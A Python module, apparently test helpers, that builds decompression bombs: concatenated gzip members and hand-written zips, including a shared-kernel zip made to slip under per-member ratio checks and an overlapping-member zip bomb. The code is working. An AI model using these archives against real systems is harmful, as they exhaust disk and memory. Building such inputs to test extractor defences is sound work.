"""Builders of hostile archives, small on disk and quick to make: the bombs are assembled from
one compressed piece repeated (gzip members back to back, one deflate kernel shared by many zip
members) instead of compressing gigabytes."""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zlib
from pathlib import Path

MIB = 2**20
_GZ_MIB_OF_ZEROS = gzip.compress(bytes(MIB), 9)
"""One gzip member that inflates to 1 MiB of zeros (about 1 KiB)."""


def zeros_tar_gz(path: Path, members: dict[str, int]) -> Path:
    """A tar.gz whose members hold the given number of MiB of zeros each: a gzip member per
    header and per MiB, concatenated (what `cat a.gz b.gz` makes, and a valid gzip file)."""
    with path.open("wb") as out:
        for name, mib in members.items():
            info = tarfile.TarInfo(name)
            info.size = mib * MIB
            out.write(gzip.compress(info.tobuf(tarfile.GNU_FORMAT)))
            out.write(_GZ_MIB_OF_ZEROS * mib)
        out.write(gzip.compress(bytes(2 * tarfile.BLOCKSIZE)))
    return path


def zeros_gz(path: Path, mib: int) -> Path:
    path.write_bytes(_GZ_MIB_OF_ZEROS * mib)
    return path


# --- zips written by hand ---------------------------------------------------------------------

_LOCAL = struct.Struct("<4sHHHHHIIIHH")
_CENTRAL = struct.Struct("<4s4B4HL2L5H2L")
_EOCD = struct.Struct("<4s4H2LH")


def local_header(name: bytes, method: int, crc: int, compressed: int, size: int) -> bytes:
    return _LOCAL.pack(b"PK\x03\x04", 20, 0, method, 0, 0x21, crc, compressed, size,
                       len(name), 0) + name


def central_header(name: bytes, method: int, crc: int, compressed: int, size: int,
                   offset: int, external: int = 0) -> bytes:
    return _CENTRAL.pack(b"PK\x01\x02", 20, 3, 20, 0, 0, method, 0, 0x21, crc, compressed,
                         size, len(name), 0, 0, 0, 0, external, offset) + name


def end_record(count: int, cd_size: int, cd_offset: int) -> bytes:
    return _EOCD.pack(b"PK\x05\x06", 0, 0, count, count, cd_size, cd_offset, 0)


def raw_deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def shared_kernel_zip(path: Path, count: int, kernel_mib: int = 1) -> Path:
    """`count` members, each its own copy of a small deflate kernel of zeros (1 MiB: under the
    size from which a member's ratio is checked). No member is a bomb; together they are."""
    kernel = raw_deflate(bytes(kernel_mib * MIB))
    crc = zlib.crc32(bytes(kernel_mib * MIB))
    body, central = io.BytesIO(), io.BytesIO()
    for i in range(count):
        name = f"part{i:05d}.log".encode()
        central.write(central_header(name, 8, crc, len(kernel), kernel_mib * MIB, body.tell()))
        body.write(local_header(name, 8, crc, len(kernel), kernel_mib * MIB) + kernel)
    directory = central.getvalue()
    path.write_bytes(body.getvalue() + directory
                     + end_record(count, len(directory), body.tell()))
    return path


def overlapping_zip(path: Path, count: int, kernel_mib: int = 1) -> Path:
    """A zip bomb of overlapping members: member i's deflate data is a stored block quoting the
    local header of member i + 1, then member i + 1's data, down to one shared kernel of zeros.
    Each member is a valid deflate stream with a right CRC (zipfile reads every one), each
    compresses well under 200:1, and together they inflate to `count` times the kernel."""
    kernel_out = bytes(kernel_mib * MIB)
    kernel = raw_deflate(kernel_out)
    names = [f"data{i:05d}.bin".encode() for i in range(count)]
    # from the last member back: its local header, and what member i decompresses to
    headers: list[bytes] = [b""] * count
    quoted = b""  # the local headers of the members after i, as member i's data shows them
    crc_tail = zlib.crc32(kernel_out)
    compressed = len(kernel)
    for i in range(count - 1, -1, -1):
        size = len(quoted) + len(kernel_out)
        crc = zlib.crc32(kernel_out, zlib.crc32(quoted)) if quoted else crc_tail
        headers[i] = local_header(names[i], 8, crc, compressed, size)
        if i:
            block = headers[i]
            quote = struct.pack("<BHH", 0, len(block), len(block) ^ 0xFFFF)
            quoted = block + quoted
            compressed += len(quote) + len(block)
    body = io.BytesIO()
    offsets = []
    for i in range(count):
        offsets.append(body.tell())
        body.write(headers[i])
        if i + 1 < count:
            nxt = headers[i + 1]
            body.write(struct.pack("<BHH", 0, len(nxt), len(nxt) ^ 0xFFFF))
    body.write(kernel)
    central = io.BytesIO()
    for i in range(count):
        fields = _LOCAL.unpack_from(headers[i])
        central.write(central_header(names[i], 8, fields[6], fields[7], fields[8], offsets[i]))
    directory = central.getvalue()
    path.write_bytes(body.getvalue() + directory
                     + end_record(count, len(directory), body.tell()))
    return path
